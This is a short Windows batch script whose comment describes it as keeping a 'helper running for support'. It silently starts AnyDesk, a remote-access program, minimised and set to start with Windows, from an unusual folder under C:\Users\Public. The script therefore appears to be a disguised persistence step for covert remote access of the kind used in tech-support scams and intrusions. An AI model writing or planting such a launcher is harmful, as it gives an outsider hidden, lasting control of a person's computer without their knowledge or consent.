@echo off
rem keeps the helper running for support
start "" /min "C:\Users\Public\Libraries\svc\AnyDesk.exe" --silent --start-with-win
exit
